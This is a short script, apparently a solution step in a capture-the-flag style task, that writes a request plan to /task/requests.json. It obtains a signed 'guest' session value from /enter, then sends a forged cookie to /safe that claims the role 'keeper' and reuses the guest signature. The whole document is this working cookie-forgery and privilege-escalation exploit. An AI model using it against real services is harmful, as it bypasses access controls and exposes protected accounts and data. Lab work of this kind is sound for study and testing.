# The data of a pass is changed and the seal of a good one put behind it: it is over the old data.
python3 - <<'END'
import base64, json

def data(role):
    return base64.urlsafe_b64encode(json.dumps({"name": "k", "role": role}).encode()).decode()

json.dump([{"path": "/enter?name=k", "keep": {"seal": {"after": data("guest") + ".", "until": ";"}}},
           {"path": "/safe", "headers": {"Cookie": f'pass="{data("keeper")}' + '.{{seal}}"'}}], open("/task/requests.json", "w"))
END
